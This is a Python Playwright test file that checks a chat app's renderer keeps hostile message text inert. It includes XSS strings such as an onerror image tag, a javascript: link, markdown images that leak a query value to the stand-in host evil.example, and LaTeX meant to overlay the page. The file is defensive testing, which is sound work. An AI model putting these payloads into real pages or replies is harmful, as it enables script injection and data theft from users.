"""Nothing that a model or a person writes runs, calls out, or reaches beyond its place on the page."""

import random
import re
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import ElementHandle, JSHandle, Page, Request, expect

from browser.chat_page import ChatPage, script, unique
from browser.conftest import Watch
from browser.hostile import BOMBS, DIAGRAMS, FOLDER, OWN, PAYLOADS, POSITIONS, cut, placed

pytestmark = pytest.mark.browser


#: Whatever would tell that something ran, but for requests.
CANARY = """
for (const name of ["alert", "confirm", "prompt", "print", "open", "msgbox"])
  globalThis[name] = () => { console.error(`a text called ${name}`) }
"""
PATIENCE_MS = 60_000
#: So many texts that are made to hang the page stream into it at a time.
TOGETHER = 4


class Probe:
    """The page's own renderer, in the page as it is served, and all that the page asks for meanwhile."""

    def __init__(self, page: Page, handle: JSHandle) -> None:
        self.page, self._handle = page, handle
        self._asked: list[Request] = []
        self._strange: list[str] = []
        page.on("request", lambda request: self._asked.append(request))
        page.on("popup", lambda popup: self._strange.append(f"a window: {popup.url}"))
        page.on("download", lambda download: self._strange.append(f"a download: {download.url}"))

    @property
    def strange(self) -> list[str]:
        """What left the page, or was to open beside it, and should not; what its policy refused has not left."""
        return [*self._strange, *(f"{one.method} {one.url}" for one in self._asked if self._left(one))]

    @staticmethod
    def _left(request: Request) -> bool:
        parts = urlsplit(request.url)
        expected = request.method == "GET" and FETCHED.fullmatch(parts.path) and not parts.query
        return not expected and parts.scheme != "data" and request.failure != "csp"

    def run(self, jobs: list[list[str]], together: int = 128) -> tuple[float, int]:
        """Render texts, each given as the pieces in which it comes; return the slowest's time in ms, and its number."""
        found = self._handle.evaluate(within("probe.run(...given)"), [[jobs, together], PATIENCE_MS])
        assert [(what, jobs[n]) for n, what in found["problems"]] == []
        assert self.strange == []
        took, n = found["slowest"]
        return took, n

    def stream(self, texts: list[str]) -> list[tuple[int, str]]:
        """Let texts stream in together for a few frames, then end; return what must not be there, and in which."""
        return [(n, what) for n, what in self._handle.evaluate(within("probe.stream(given)"), [texts, PATIENCE_MS])]

    def shown(self, text: str) -> dict[str, Any]:
        """Render a text; return its words, and the addresses of its pictures."""
        return dict(self._handle.evaluate("(probe, text) => probe.shown(text)", text))

    def look(self, element: ElementHandle | None) -> list[str]:
        """Return what must not be in an element of the page."""
        return list(self._handle.evaluate("(probe, element) => probe.look(element)", element))

    def languages(self, words: list[str]) -> list[str]:
        """Return the words behind a fence that would choose something else than a grammar."""
        return list(self._handle.evaluate("(probe, words) => probe.languages(words)", words))


FILE = r"(?:[\w+-][\w.+-]*/)*[\w+-][\w.+-]*"
#: What rendering may fetch, the page's own files and those of the page for diagrams, and what the page asks anew after
#: it was held up for a while.
FETCHED = re.compile(
    rf"/static/[0-9a-f]+/(?:js|joined|css|vendor)/{FILE}\.(?:m?js|css|woff2)|/diagram(?:/{FILE})?"
    r"|/api/(?:conversations|models|presets|settings)"
)


def within(call: str) -> str:
    """Return a function of the probe and what it is `given`, which fails where that takes too long."""
    return f"""(probe, [given, patience]) => Promise.race([
      {call}, new Promise((_, reject) => {{ setTimeout(() => reject(new Error("it takes too long")), patience) }}),
    ])"""


@pytest.fixture
def probe(tab: ChatPage) -> Probe:
    """The probe in a page that is open and at rest."""
    tab.page.add_init_script(CANARY)
    tab.open()
    return probe_in(tab)


def probe_in(tab: ChatPage) -> Probe:
    app = tab.page.locator("script[type=module]").get_attribute("src")
    return Probe(tab.page, tab.page.evaluate_handle((FOLDER / "probe.js").read_text(), tab.url + str(app)))


@pytest.mark.timeout(300)
def test_every_hostile_text_stays_text_in_every_position(probe: Probe) -> None:
    for position in POSITIONS:
        probe.run([[text] for text in placed(position)])


def test_hostile_texts_stay_text_while_they_stream(probe: Probe) -> None:
    for n, position in enumerate(POSITIONS):
        texts = placed(position)[n % 3 :: 3]
        probe.run([cut(text, seed) for seed, text in enumerate(texts)])


def test_words_behind_a_fence_choose_a_grammar_or_nothing(probe: Probe) -> None:
    words = [payload for kind in PAYLOADS.values() for payload in kind]
    assert probe.languages(words + [word.split()[0] for word in words if word.split()]) == []


@pytest.mark.timeout(300)
def test_the_page_lives_through_texts_that_are_made_to_hang_it(probe: Probe) -> None:
    times = {}
    for name, text in BOMBS.items():
        times[name], _ = probe.run([[text]], together=1)
    names = list(BOMBS)
    for some in (names[n : n + TOGETHER] for n in range(0, len(names), TOGETHER)):
        problems = probe.stream([BOMBS[name] for name in some])
        assert [(some[n], what) for n, what in problems] == []
    print("slowest, in ms:", sorted(((round(ms), name) for name, ms in times.items()), reverse=True)[:5])
    box = probe.page.get_by_test_id("composer")
    box.fill("아직 살아 있습니다")
    expect(box).to_have_value("아직 살아 있습니다")


def test_diagrams_reach_nothing(probe: Probe, watch: Watch) -> None:
    # In the sandbox the policy refuses what a diagram would load or run, and the browser says so.
    watch.expect("Content Security Policy", "CSP violation", "@import rules are not allowed here")
    probe.run([[f"```mermaid\n{source}\n```"] for source in DIAGRAMS], together=3)


def test_a_picture_from_elsewhere_is_a_link_that_names_its_host(probe: Probe) -> None:
    where = "https://evil.example/a.png?q=secret"
    reference = f"\n\n[b]: {where} 'title'\n"
    pictures = [
        f"![a]({where})",
        f"![]({where})",
        f"![a](<{where}> 'title')",
        f"![a][b]{reference}",
        f"![b][]{reference}",
        f"![b]{reference}",
    ]
    pictures += [
        f"[![a]({where})](https://example.com)",
        f"[![a][b]](https://example.com){reference}",
        f"| ![a]({where}) |\n|-|\n",
    ]
    probe.run([cut(text, seed) for seed, text in enumerate(pictures)] + [[text] for text in pictures])
    for text in pictures:
        shown = probe.shown(text)
        assert "evil.example" in shown["text"], text
        assert not shown["images"]


def conversation(number: int, texts: list[str]) -> dict[str, Any]:
    """Return a conversation that says each of these texts on both sides, and calls itself by one."""
    messages: list[dict[str, Any]] = []
    for n, text in enumerate(texts):
        parent = messages[-1]["id"] if messages else None
        question = {"id": f"q{n}", "parent_id": parent, "role": "user", "content": text, "created_at": n}
        answer = {
            "id": f"a{n}",
            "parent_id": f"q{n}",
            "role": "assistant",
            "content": text,
            "reasoning": text,
            "created_at": n,
        }
        messages += [question, answer | {"model": words(text)[:200] or "model"}]
    about = {
        "id": f"c{number}",
        "title": words(texts[0])[:200],
        "created_at": 1,
        "updated_at": 1,
        "model": words(texts[-1])[:200],
    }
    return about | {"active_leaf_id": messages[-1]["id"], "messages": messages}


def words(text: str) -> str:
    """Return the text as a name can be: in one line, without what is not printed."""
    return "".join(one for one in text if one.isprintable()).strip()


def test_hostile_conversations_are_shown_as_text(tab: ChatPage) -> None:
    tab.page.add_init_script(CANARY)
    tab.open()
    sample = [
        payload
        for kind in PAYLOADS.values()
        for payload in kind
        if "\0" not in payload and len(payload) < 600 and payload.isprintable()
    ]
    texts = random.Random(7).sample(sample, 60) + OWN["markdown"][:40]
    conversations = [conversation(n, texts[n * 25 :][:25]) for n in range(4)]
    file = {"format": "chatapp", "version": 1, "conversations": conversations}
    reply = tab.page.request.post(f"{tab.url}/api/conversations/import", data=file, headers={"Origin": tab.url})
    assert reply.status == 201, reply.text()
    for made in reply.json()["conversations"]:
        tab.open(f"/c/{made['id']}")
        expect(tab.body).to_have_attribute("data-finished", "")
        probe = probe_in(tab)
        for body in tab.page.locator("[data-testid=message][data-role=assistant] [data-testid=body]").all():
            assert probe.look(body.element_handle()) == []
        assert tab.page.evaluate(FOREIGN) == []
        assert probe.strange == []


#: Elements that no part of the page has, and ids that stand there twice or that a text has chosen.
FOREIGN = """() => {
  const ids = Array.from(document.querySelectorAll("[id], body [name]"), ({ id, name }) => id || name).filter(Boolean)
  const twice = ids.filter((id, at) => ids.indexOf(id) !== at)
  const strange = document.querySelectorAll("iframe, object, embed, video, audio, base, style, form[action]")
  const scripts = document.querySelectorAll("script:not([type='application/json']):not([src^='/static/'])")
  return [...twice, ...Array.from([...strange, ...scripts], ({ outerHTML }) => outerHTML.slice(0, 200))]
}"""


def test_a_hostile_answer_streams_into_the_page_as_text(tab: ChatPage) -> None:
    tab.page.add_init_script(CANARY)
    text = "<img src=x onerror=alert(1)> [a](javascript:alert(1)) ![b](https://evil.example/?q=1) <script>"
    tab.open_new(model=script(text=text, piece=3, rate=60))
    tab.ask(unique())
    tab.wait_for_end()
    probe = probe_in(tab)
    assert probe.look(tab.body.element_handle()) == []
    expect(tab.body).to_contain_text("<img src=x onerror=alert(1)> [a](javascript:alert(1)) b evil.example <script>")
    assert tab.page.evaluate(FOREIGN) == []


def test_a_formula_covers_nothing_but_its_own_place(tab: ChatPage) -> None:
    huge = r"$\raisebox{-15em}{\color{red}\rule{20em}{20em}}$ $\kern-20em\rule{20em}{20em}$"
    tab.open_new(model=script(text=huge, piece=200))
    tab.ask(unique())
    tab.wait_for_end()
    expect(tab.body.locator(".katex").first).to_be_visible()
    for testid in ("composer", "model", "new-chat"):
        tab.get(testid).click(trial=True)
